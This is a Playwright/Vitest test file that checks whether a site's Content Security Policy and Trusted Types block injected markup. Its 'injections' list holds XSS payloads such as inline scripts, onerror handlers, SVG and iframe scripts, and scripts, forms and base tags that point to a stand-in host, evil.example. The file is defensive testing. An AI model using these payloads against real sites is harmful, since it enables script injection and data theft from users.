import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { longest } from './kinds.ts';
import { launch } from './open.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(() => browser.close());

/** What somebody might slip into a page, should every check before have failed. */
const injections = {
  'an inline script': '<script>window.owned = true</script>',
  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'an event handler': '<img src="nothing.png" alt="" onerror="window.owned = true">',
  'a frame': '<iframe srcdoc="<script>parent.owned = true</script>"></iframe>',
  'a form that sends elsewhere': '<form action="https://evil.example/" id="send"><input name="a"></form>',
  'an image from elsewhere': '<img src="https://evil.example/pixel.png" alt="">',
  'a style': '<style>body { display: none }</style>',
  'a base': '<base href="https://evil.example/">',
  'a script in a drawing': '<svg xmlns="http://www.w3.org/2000/svg"><script>window.owned = true</script></svg>',
};

describe('the policy stops', () => {
  it.for(Object.entries(injections))('%s', async ([, markup]) => {
    const { owned, outside, displayed, baseURI, refusals } = await visitWith(markup);
    expect({ owned, outside, displayed }).toEqual({ owned: false, outside: [], displayed: true });
    expect(baseURI).not.toContain('evil');
    expect(refusals).not.toEqual([]);
  });

  it('a script of the site that would turn text into markup', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(inject('siteUrl'));
    const thrown = await page.evaluate(() => {
      try {
        document.body.innerHTML = location.hash;
        return 'nothing';
      } catch (error) {
        return String(error);
      }
    });
    await context.close();
    expect(thrown).toMatch(/TrustedHTML/);
  });

  it('nothing that belongs to the page', async () => {
    expect((await visitWith('')).refusals).toEqual([]);
  });
});

/** Opens a page into which markup was put, first in its text, and reports what came of it. */
async function visitWith(markup: string) {
  const context = await browser.newContext();
  const page = await context.newPage();
  const outside: string[] = [];
  const refusals: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) refusals.push(message.text());
  });
  await page.route('https://evil.example/**', (route) => {
    outside.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'window.owned = true' });
  });
  const url = new URL(longest.at(-1) ?? '', inject('siteUrl')).href;
  await page.route(url, async (route) => {
    const response = await route.fetch();
    const body = (await response.text())
      .replace(/<\/title>/, `</title>${markup}`)
      .replace(/<main[^>]*>/, (main) => main + markup);
    return route.fulfill({ response, body });
  });
  await page.goto(url, { waitUntil: 'networkidle' });
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#send')?.submit());
  await page.waitForTimeout(100);
  const state = await page.evaluate(() => ({
    owned: 'owned' in window,
    displayed: getComputedStyle(document.body).display !== 'none',
    baseURI: document.baseURI,
  }));
  await context.close();
  return { ...state, outside, refusals };
}
